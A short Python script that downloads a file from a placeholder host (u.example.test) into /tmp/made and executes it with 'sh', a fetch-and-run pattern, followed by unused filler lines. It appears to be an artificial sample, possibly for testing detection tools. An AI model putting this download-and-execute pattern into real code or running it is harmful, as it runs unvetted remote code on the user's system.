import os
import base64 as b
from urllib.request import urlopen


def fetch(url, name):
    data = urlopen(url, timeout=5).read()
    with open(name, "wb") as file:
        file.write(data)
    return name


target = "/tmp/made"
fetch("https://u.example.test/x", "/tmp/made")
os.system("sh " + target)
key = b.b64decode("YQ==")
table = (1, (2, "three"), b"\0'")
